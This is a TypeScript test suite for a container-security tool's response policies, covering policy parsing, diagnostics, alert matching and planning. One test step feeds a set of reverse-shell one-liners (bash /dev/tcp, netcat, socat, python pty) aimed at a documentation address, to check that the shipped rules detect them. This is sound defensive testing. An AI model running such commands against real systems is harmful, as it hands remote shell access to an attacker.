/**
 * Response policies: the shipped examples load clean and answer the shipped rules' alerts
 * (run through the real Sigma pipeline) with the actions they promise; every problem of a
 * broken policy directory is reported at once with its position; matching per key;
 * planning with `continue`; and `parsePolicies` never throws, whatever the text.
 */
import fc from "fast-check";
import { fileURLToPath } from "node:url";
import {
  type AlertEvent,
  type ContainerRef,
  type Diagnostic,
  formatDiagnostic,
  type HostEvent,
  newEvent,
} from "../../mod/core/mod.ts";
import { describePlan, planFor } from "../../mod/guard/plan.ts";
import { matches, mismatch } from "../../mod/guard/match.ts";
import { globMatch } from "../../mod/guard/glob.ts";
import type { Policy } from "../../mod/guard/policy.ts";
import {
  formatDuration,
  loadPolicies,
  parseDuration,
  parsePolicies,
} from "../../mod/guard/policy_load.ts";
import { hostToLog, loadRules, parseLine, Pipeline } from "../../mod/logs/mod.ts";
import { assert, assertEquals } from "../helpers/assert.ts";

const SHIPPED = fileURLToPath(new URL("../../config/policies", import.meta.url));
const RULES = fileURLToPath(new URL("../../rules/", import.meta.url));
const FIXTURES = fileURLToPath(new URL("../fixtures/policies/", import.meta.url));

const WEB: ContainerRef = {
  id: "4f".repeat(32),
  name: "web-1",
  image: "nginx:1.27",
  labels: { app: "web", tier: "front" },
};

function alert(fields: Partial<AlertEvent> = {}): AlertEvent {
  return newEvent<AlertEvent>({
    kind: "alert",
    ruleId: "r1",
    title: "Test alert",
    severity: "high",
    source: "test",
    tags: [],
    evidence: [],
    host: "h1",
    ...fields,
  });
}

function policy(text: string): Policy {
  const { policies, diagnostics } = parsePolicies(text, "inline.toml");
  assertEquals(diagnostics.map(formatDiagnostic), []);
  assertEquals(policies.length, 1);
  return policies[0];
}

/** A policy with the given `[policy.match]` body and one alert_only action. */
const matching = (body: string) =>
  policy(
    `[[policy]]\nid = "p"\n[policy.match]\n${body}\n[[policy.actions]]\ntype = "alert_only"\n`,
  );

/** The `file:line:col: severity: key: message` part of each diagnostic (not `expected`). */
const lines = (ds: Diagnostic[]) =>
  ds.map((d) => formatDiagnostic(d).replace(/; expected .*$/s, ""));

Deno.test("shipped policies", async (t) => {
  const { policies, diagnostics } = await loadPolicies(SHIPPED);

  await t.step("load with zero diagnostics", () => {
    assertEquals(diagnostics.map(formatDiagnostic), []);
    assertEquals(policies.map((p) => p.id), [
      "block-ssh-brute-force",
      "pause-container-etc-write",
      "isolate-container-reverse-shell",
    ]);
    assertEquals(policies.map((p) => p.actions), [
      [{ type: "block_ip", ttlSecs: 600 }],
      [{ type: "pause" }],
      [{ type: "isolate" }],
    ]);
    assert(policies.every((p) => !p.dryRun && !p.continue && p.file.startsWith(SHIPPED)));
  });

  const loaded = await loadRules([RULES]);
  await t.step("match only rule ids the shipped rules have", () => {
    assertEquals(loaded.errors.map(String), []);
    const ids = new Set([...loaded.rules, ...loaded.correlations].map((r) => r.id));
    for (const p of policies) {
      for (const id of p.match.rules ?? []) assert(ids.has(id), `${p.id}: no shipped rule ${id}`);
    }
  });

  const pipeline = () =>
    new Pipeline(loaded.rules, loaded.correlations, {
      suppressWindowSecs: 60,
      correlationMaxGroups: 1000,
    });
  const host = (fields: Partial<HostEvent>) =>
    hostToLog(newEvent<HostEvent>({
      kind: "host",
      sensor: "process",
      action: "exec",
      pid: 4242,
      image: "/bin/busybox",
      fields: {},
      host: "h1",
      ...fields,
    }));
  const planned = (alerts: AlertEvent[]) =>
    alerts.flatMap((a) =>
      planFor(a, policies).map((s) => [s.policy.id, a.srcIp ?? a.container?.name])
    );

  await t.step("an SSH brute force blocks its source for 10 minutes", () => {
    const p = pipeline();
    const alerts = Array.from({ length: 6 }, (_, i) =>
      p.evaluate(parseLine(
        `Jan 14 09:00:0${i} web1 sshd[${4000 + i}]: Failed password for root from ` +
          `203.0.113.9 port ${40000 + i} ssh2`,
        { source: "sshd", referenceTime: Date.UTC(2025, 0, 20), timeZone: "UTC" },
      ))).flat();
    // fail2ban's threshold (5 failures) and the burst rule (6 lines) both fire; the guard's
    // cooldown per (policy, source) makes the second block a suppressed repeat.
    assertEquals(planned(alerts), [
      ["block-ssh-brute-force", "203.0.113.9"],
      ["block-ssh-brute-force", "203.0.113.9"],
    ]);
    const burst = alerts.find((a) => planFor(a, policies).length > 0)!;
    assertEquals(describePlan(burst, planFor(burst, policies)).slice(1), [
      `policy block-ssh-brute-force (${SHIPPED}/10-ssh-brute-force.toml:5) matches: ` +
      "Block a source that brute-forces SSH for 10 minutes",
      "  1. block_ip 203.0.113.9 for 10m",
    ]);
  });

  await t.step("a write under /etc in a container pauses it; on the host nothing", () => {
    const write = (container?: ContainerRef) =>
      host({
        sensor: "file",
        action: "open_write",
        fields: { TargetFilename: "/etc/profile" },
        ...(container ? { container } : {}),
      });
    const p = pipeline();
    assertEquals(planned(p.evaluate(write(WEB))), [["pause-container-etc-write", "web-1"]]);
    assertEquals(planned(p.evaluate(write())), []);
  });

  await t.step("a reverse shell in a container isolates it; a health check does not", () => {
    // A fresh pipeline each time: repeats of one rule would be suppressed.
    const run = (commandLine: string, container: ContainerRef | null = WEB) =>
      planned(pipeline().evaluate(host({ commandLine, ...(container ? { container } : {}) })));
    for (
      const cmd of [
        "bash -c bash -i >& /dev/tcp/198.51.100.4/4444 0>&1",
        "nc 198.51.100.4 4444 -e /bin/sh",
        "ncat --exec /bin/bash 198.51.100.4 4444",
        "sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 >/tmp/f",
        "socat exec:'bash -li',pty,stderr tcp:198.51.100.4:4444",
        'python3 -c import socket,os,pty;s=socket.socket();s.connect(("198.51.100.4",4444));' +
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
      ]
    ) {
      assertEquals(run(cmd), [[
        "isolate-container-reverse-shell",
        "web-1",
      ]], cmd);
    }
    assertEquals(run("bash -c bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", null), []);
    assertEquals(run("bash -c echo > /dev/tcp/db/5432"), [], "a port probe is not a shell");
    assertEquals(run("nc -z db 5432"), []);
    assertEquals(run("socat tcp-listen:8080,fork tcp:backend:80"), []);
  });
});

Deno.test("a broken policy directory: every problem of every file, positioned", async (t) => {
  const dir = `${FIXTURES}broken`;
  const { policies, diagnostics } = await loadPolicies(dir);
  const v = `${dir}/10-values.toml`;

  await t.step("each diagnostic: file:line:col, key, message", () => {
    assertEquals(lines(diagnostics), [
      `${v}:5:16: error: policy[0].match.min_severity: "hihg" is not a valid value (did you mean "high"?)`,
      `${v}:6:31: error: policy[0].match.source_cidrs[1]: prefix "/33" is out of range for IPv4 (0 to 32)`,
      `${v}:7:3: error: policy[0].match.source_cidrs[2]: "2001:db8::1/32" has host bits set below /32; the network is 2001:db8::/32`,
      `${v}:10:7: error: policy[0].actions[0].ttl: "10 minutes" is not a duration`,
      `${v}:13:6: error: policy[1].id: "Bad Id" is not a valid policy id`,
      `${v}:14:1: error: policy[1].descripton: unknown key "descripton" (did you mean "description"?)`,
      `${v}:17:10: error: policy[1].actions[0].signal: "KILL" is not a signal name (did you mean "SIGKILL"?)`,
      `${v}:19:8: error: policy[1].actions[1].type: "release" is not a policy action: it is the operator's undo, \`ironpost guard release <container|ip>\``,
      `${v}:23:1: error: policy[2].rules: unknown key "rules" (it belongs in [policy.match])`,
      `${v}:24:1: error: policy[2].actions[0].ttl: missing "ttl"`,
      `${v}:27:8: error: policy[2].actions[1].type: unknown action type "isolte" (did you mean "isolate"?)`,
      `${v}:30:14: error: policy[2].actions[2].grace_secs: wrong type: got float 10.5`,
      `${v}:31:1: error: policy[2].actions[2].ttl: unknown key "ttl" (ttl is a key of block_ip actions)`,
      `${v}:37:1: warning: policy[3].match.containers: policy "host-pause" never matches: target = "host" means the alert names no container, so "containers" cannot hold`,
      `${v}:38:1: warning: policy[3].actions[0]: pause never runs: target = "host" means the alert names no container to pause`,
      `${dir}/20-duplicate.toml:2:6: error: policy[0].id: duplicate policy id "host-pause" (first defined at ${v}:33)`,
      `${dir}/30-syntax.toml:2:19: error: (toml): control characters are not allowed in strings`,
    ]);
  });

  await t.step("codes and what would be valid", () => {
    const by = (key: string) => diagnostics.find((d) => d.key === key)!;
    assertEquals(by("policy[0].match.source_cidrs[1]").code, "E_CIDR");
    assertEquals(by("policy[0].actions[0].ttl").code, "E_DURATION");
    assertEquals(
      by("policy[0].actions[0].ttl").expected,
      'a duration from 1 s to 365 d: seconds ("90" or 90), or a number with s, m, h or d ("10m")',
    );
    assertEquals(by("policy[1].actions[0].signal").code, "E_SIGNAL");
    assertEquals(by("policy[1].actions[1].type").code, "E_POLICY_RELEASE");
    assertEquals(
      by("policy[1].actions[1].type").expected,
      "one of alert_only, block_ip, pause, stop, kill, isolate",
    );
    assertEquals(by("policy[0].match.min_severity").code, "E_ENUM");
    assertEquals(
      by("policy[0].match.min_severity").expected,
      'one of "info", "low", "medium", "high", "critical"',
    );
    assertEquals(by("(toml)").expected, "valid TOML 1.0");
  });

  await t.step("policies with errors are left out; warnings and other extensions are not", () => {
    // The YAML file (a KubeArmor policy) is not read; the warned-about policy loads.
    assert(!diagnostics.some((d) => d.file.endsWith(".yaml")));
    assertEquals(policies.map((p) => p.id), ["host-pause"]);
  });

  await t.step("a missing directory is one diagnostic", async () => {
    const r = await loadPolicies(`${FIXTURES}does-not-exist`);
    assertEquals(r.policies, []);
    assertEquals(lines(r.diagnostics), [
      `${FIXTURES}does-not-exist: error: container.policy_dir: the policy directory does not exist`,
    ]);
  });

  await t.step("a file is not a directory", async () => {
    const r = await loadPolicies(`${dir}/20-duplicate.toml`);
    assertEquals(r.diagnostics.map((d) => d.code), ["E_POLICY_DIR"]);
  });
});

Deno.test("policy text: positions and checks beyond the fixtures", async (t) => {
  const diags = (text: string) => lines(parsePolicies(text, "p.toml").diagnostics);

  await t.step("inline tables point at their element", () => {
    assertEquals(
      diags(
        'policy = [\n  { id = "a", actions = [{ type = "pause" }] },\n' +
          '  { id = "b", actions = [{ type = "pause" }, { type = "paws" }] },\n]\n',
      ),
      [
        'p.toml:3:55: error: policy[1].actions[1].type: unknown action type "paws" (did you mean "pause"?)',
      ],
    );
  });

  await t.step("a policy without id or actions, and an empty action list", () => {
    assertEquals(
      diags('[[policy]]\ndescription = "x"\n\n[[policy]]\nid = "y"\nactions = []\n'),
      [
        'p.toml:1:1: error: policy[0].id: missing "id"',
        'p.toml:1:1: error: policy[0].actions: missing "actions"',
        "p.toml:6:11: error: policy[1].actions: a policy needs at least one action",
      ],
    );
  });

  await t.step("[policy] with one bracket, top-level typos, dotted labels", () => {
    assertEquals(diags('[policy]\nid = "x"\n'), [
      'p.toml:1:1: error: policy: "policy" must be an array of tables, got a table (write [[policy]] with two brackets)',
    ]);
    assertEquals(diags('[[polcy]]\nid = "x"\n'), [
      'p.toml:1:1: error: polcy: unknown key "polcy" (did you mean "policy"?)',
    ]);
    assertEquals(
      diags(
        '[[policy]]\nid = "x"\n[policy.match]\nlabels = { com.example.role = "web" }\n' +
          'rules = []\n[[policy.actions]]\ntype = "pause"\n',
      ),
      [
        'p.toml:4:31: error: policy[0].match.labels.com: label "com" must be a string, got a table (quote a dotted label name: { "com.…" = "…" })',
        "p.toml:5:9: error: policy[0].match.rules: an empty list matches no alert (leave the key out to match any)",
      ],
    );
  });

  await t.step("integers, ranges and durations", () => {
    assertEquals(
      diags(
        '[[policy]]\nid = "x"\ncooldown_secs = 90000\n[[policy.actions]]\ntype = "block_ip"\n' +
          'ttl = "0"\n[[policy.actions]]\ntype = "stop"\ngrace_secs = -1\n',
      ),
      [
        "p.toml:3:17: error: policy[0].cooldown_secs: 90000 is out of range",
        'p.toml:6:7: error: policy[0].actions[0].ttl: string "0" is out of range',
        "p.toml:9:14: error: policy[0].actions[1].grace_secs: -1 is out of range",
      ],
    );
    assertEquals(parseDuration("90"), 90);
    assertEquals(parseDuration(90n), 90);
    assertEquals(parseDuration("30s"), 30);
    assertEquals(parseDuration("10m"), 600);
    assertEquals(parseDuration("2h"), 7200);
    assertEquals(parseDuration("7d"), 604800);
    assertEquals(typeof parseDuration("1w"), "string");
    assertEquals(typeof parseDuration("-5m"), "string");
    assertEquals(typeof parseDuration("366d"), "string");
    assertEquals([600, 90, 86400, 3600 * 36].map(formatDuration), ["10m", "90s", "1d", "36h"]);
  });

  await t.step("defaults, and a catch-all before others is warned about", () => {
    const { policies, diagnostics } = parsePolicies(
      '[[policy]]\nid = "all"\n[[policy.actions]]\ntype = "stop"\n[[policy.actions]]\n' +
        'type = "kill"\n\n[[policy]]\nid = "later"\n[[policy.actions]]\ntype = "pause"\n',
      "p.toml",
    );
    assertEquals(policies[0].actions, [
      { type: "stop", graceSecs: 10 },
      { type: "kill", signal: "SIGKILL" },
    ]);
    assertEquals(policies[0].match, { target: "any" });
    assertEquals(lines(diagnostics), [
      'p.toml:8:1: warning: policy[1]: policy "later" is never evaluated: "all" (p.toml:1) matches every alert and does not continue',
    ]);
  });

  await t.step("a label named __proto__ stays a label", () => {
    const p = matching('labels = { "__proto__" = "x" }');
    assertEquals(Object.keys(p.match.labels!), ["__proto__"]);
    assert(!matches(p, alert({ container: WEB })));
    assert(matches(p, alert({ container: { ...WEB, labels: JSON.parse('{"__proto__":"x"}') } })));
  });
});

Deno.test("matching, key by key", async (t) => {
  const onWeb = alert({ container: WEB });

  await t.step("an empty match matches every alert", () => {
    const p = policy('[[policy]]\nid = "p"\n[[policy.actions]]\ntype = "alert_only"\n');
    assert(matches(p, alert()) && matches(p, onWeb) && matches(p, alert({ severity: "info" })));
  });

  await t.step("min_severity", () => {
    const p = matching('min_severity = "medium"');
    assert(matches(p, alert({ severity: "medium" })));
    assert(matches(p, alert({ severity: "critical" })));
    assert(!matches(p, alert({ severity: "low" })));
    assertEquals(mismatch(p.match, alert({ severity: "low" })), "severity low is below medium");
  });

  await t.step("rules: any of, exact", () => {
    const p = matching('rules = ["r1", "r2"]');
    assert(matches(p, alert({ ruleId: "r2" })));
    assert(!matches(p, alert({ ruleId: "r3" })));
    assert(!matches(p, alert({ ruleId: "R1" })));
  });

  await t.step("tags: any of, dotted children included", () => {
    const p = matching('tags = ["attack.t1110", "attack.persistence"]');
    assert(matches(p, alert({ tags: ["attack.credential-access", "attack.t1110.001"] })));
    assert(matches(p, alert({ tags: ["attack.persistence"] })));
    assert(!matches(p, alert({ tags: ["attack.t11100"] })), "a prefix is not a parent");
    assert(!matches(p, alert({ tags: [] })));
  });

  await t.step("keys are ANDed", () => {
    const p = matching('rules = ["r1"]\ntags = ["attack.t1110"]');
    assert(matches(p, alert({ ruleId: "r1", tags: ["attack.t1110"] })));
    assert(!matches(p, alert({ ruleId: "r1", tags: [] })));
    assert(!matches(p, alert({ ruleId: "r2", tags: ["attack.t1110"] })));
  });

  await t.step("source_cidrs: v4, v6, IPv4-mapped, no source", () => {
    const p = matching('source_cidrs = ["203.0.113.0/24", "2001:db8::/32"]');
    assert(matches(p, alert({ srcIp: "203.0.113.77" })));
    assert(!matches(p, alert({ srcIp: "203.0.114.1" })));
    assert(matches(p, alert({ srcIp: "2001:db8:1::5" })));
    assert(!matches(p, alert({ srcIp: "2001:db9::5" })));
    assert(matches(p, alert({ srcIp: "::ffff:203.0.113.5" })));
    assert(!matches(p, alert({ srcIp: "not-an-ip" })));
    assertEquals(mismatch(p.match, alert()), "the alert has no source address");
    const all = matching('source_cidrs = ["0.0.0.0/0", "::/0"]');
    assert(matches(all, alert({ srcIp: "198.51.100.1" })) && matches(all, alert({ srcIp: "::1" })));
  });

  await t.step("containers: anchored, case-sensitive globs on the name", () => {
    const p = matching('containers = ["web-*", "db-?"]');
    assert(matches(p, onWeb));
    assert(matches(p, alert({ container: { ...WEB, name: "db-1" } })));
    assert(!matches(p, alert({ container: { ...WEB, name: "db-12" } })));
    assert(!matches(p, alert({ container: { ...WEB, name: "my-web-1" } })));
    assert(!matches(p, alert({ container: { ...WEB, name: "Web-1" } })));
    assert(!matches(p, alert()), "no container, no match");
    assert(
      globMatch("a.b+(c)*", "a.b+(c)[x]") && !globMatch("a.b", "aXb"),
      "only * and ? are special",
    );
  });

  await t.step("images", () => {
    const p = matching('images = ["nginx*", "docker.io/library/redis:7.?"]');
    assert(matches(p, onWeb));
    assert(matches(p, alert({ container: { ...WEB, image: "docker.io/library/redis:7.2" } })));
    assert(!matches(p, alert({ container: { ...WEB, image: "docker.io/library/nginx:1.27" } })));
  });

  await t.step("labels: all must be equal", () => {
    const p = matching('labels = { app = "web", "tier" = "front" }');
    assert(matches(p, onWeb));
    assert(!matches(p, alert({ container: { ...WEB, labels: { app: "web" } } })));
    assert(!matches(p, alert({ container: { ...WEB, labels: { app: "web", tier: "back" } } })));
    assert(!matches(p, alert({ container: { ...WEB, labels: undefined } })));
    assertEquals(
      mismatch(p.match, alert({ container: { ...WEB, labels: { app: "web", tier: "back" } } })),
      'label tier is "back", not "front"',
    );
  });

  await t.step("target", () => {
    const h = matching('target = "host"');
    const c = matching('target = "container"');
    const a = matching('target = "any"');
    assert(matches(h, alert()) && !matches(h, onWeb));
    assert(!matches(c, alert()) && matches(c, onWeb));
    assert(matches(a, alert()) && matches(a, onWeb));
  });
});

Deno.test("planning: first match wins unless it continues", async (t) => {
  const { policies, diagnostics } = await loadPolicies(`${FIXTURES}continue`);
  assertEquals(diagnostics, []);
  const ids = (a: AlertEvent) => planFor(a, policies).map((s) => s.policy.id);

  await t.step("a continuing policy lets the next match too; the next stops there", () => {
    assertEquals(ids(alert({ container: WEB })), ["audit-everything", "pause-web"]);
  });

  await t.step("a later policy when the earlier ones do not match", () => {
    assertEquals(ids(alert({ container: { ...WEB, name: "db-1" } })), [
      "audit-everything",
      "kill-high",
    ]);
    assertEquals(ids(alert({ container: { ...WEB, name: "db-1" }, severity: "low" })), [
      "audit-everything",
    ]);
    assertEquals(ids(alert()), ["audit-everything"]);
    assertEquals(planFor(alert(), []), []);
  });

  await t.step("the actions are the policy's, in order", () => {
    const plan = planFor(alert({ container: { ...WEB, name: "db-1" } }), policies);
    assertEquals(plan.map((s) => s.actions), [
      [{ type: "alert_only" }],
      [{ type: "kill", signal: "SIGTERM" }],
    ]);
  });

  await t.step("describePlan: why each policy passed, dry run, what is missing", () => {
    const a = alert({ id: "01ALERT", container: { ...WEB, name: "db-1" } });
    const f = `${FIXTURES}continue/policies.toml`;
    assertEquals(describePlan(a, planFor(a, policies), { policies, dryRun: true }), [
      'alert 01ALERT: rule r1 "Test alert", severity high, in container db-1 (nginx:1.27)',
      `policy audit-everything (${f}:3) matches (dry run, continues)`,
      "  1. would alert_only db-1",
      `policy pause-web (${f}:9) passed: container name "db-1" matches none of "web-*"`,
      `policy stop-web (${f}:16) passed: container name "db-1" matches none of "web-*"`,
      `policy kill-high (${f}:23) matches (dry run)`,
      "  1. would kill db-1 with SIGTERM",
    ]);
    const noSource = policy(
      '[[policy]]\nid = "b"\n[[policy.actions]]\ntype = "block_ip"\nttl = 60\n',
    );
    const b = alert({ id: "01B" });
    assertEquals(describePlan(b, planFor(b, [noSource])), [
      'alert 01B: rule r1 "Test alert", severity high, on host h1',
      "policy b (inline.toml:1) matches",
      "  1. block_ip: skipped, the alert has no source address",
    ]);
    assertEquals(describePlan(b, []).at(-1), "no policy matches: nothing would be done");
  });
});

Deno.test("parsePolicies never throws: arbitrary and mutated text gives diagnostics", async (t) => {
  const shipped = await Promise.all(
    [...Deno.readDirSync(SHIPPED)].map((e) => Deno.readTextFile(`${SHIPPED}/${e.name}`)),
  );
  const broken = await Deno.readTextFile(`${FIXTURES}broken/10-values.toml`);
  const seeds = [...shipped, broken];

  const wellFormed = (r: ReturnType<typeof parsePolicies>) => {
    for (const d of r.diagnostics) {
      assert(d.file === "f.toml" && d.key !== "" && d.message !== "" && d.expected !== "");
      assert(d.severity === "error" || d.severity === "warning");
      assert(d.line === undefined || (d.line >= 1 && (d.col ?? 1) >= 1), formatDiagnostic(d));
    }
    for (const p of r.policies) assert(p.actions.length > 0 && /^[a-z0-9]/.test(p.id));
  };

  await t.step("arbitrary text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 400 }), (text) => {
        wellFormed(parsePolicies(text, "f.toml"));
      }),
      { numRuns: 2000 },
    );
  });

  await t.step("policy-shaped TOML from fragments", () => {
    const value = fc.oneof(
      fc.string().map((s) => JSON.stringify(s)),
      fc.constantFrom('"10m"', '"0.0.0.0/0"', '"SIGKILL"', '"high"', '"release"', '"host"'),
      fc.integer().map(String),
      fc.constantFrom("true", "1.5", "[]", '["a", 1]', "{}", '{ a = "b" }', "[[1]]"),
    );
    const key = fc.constantFrom(
      "id",
      "type",
      "ttl",
      "signal",
      "grace_secs",
      "rules",
      "source_cidrs",
      "labels",
      "target",
      "continue",
      "min_severity",
      "match",
      "actions",
      "x",
    );
    const line = fc.oneof(
      fc.constantFrom("[[policy]]", "[[policy.actions]]", "[policy.match]", "[policy]", "# c"),
      fc.tuple(key, value).map(([k, v]) => `${k} = ${v}`),
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 25 }), (ls) => {
        wellFormed(parsePolicies(ls.join("\n"), "f.toml"));
      }),
      { numRuns: 2000 },
    );
  });

  await t.step("shipped and broken files with characters cut or inserted", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...seeds),
        fc.nat(),
        fc.nat({ max: 20 }),
        fc.string({ maxLength: 4 }),
        (seed, at, cut, insert) => {
          const i = at % (seed.length + 1);
          wellFormed(parsePolicies(seed.slice(0, i) + insert + seed.slice(i + cut), "f.toml"));
        },
      ),
      { numRuns: 3000 },
    );
  });
});
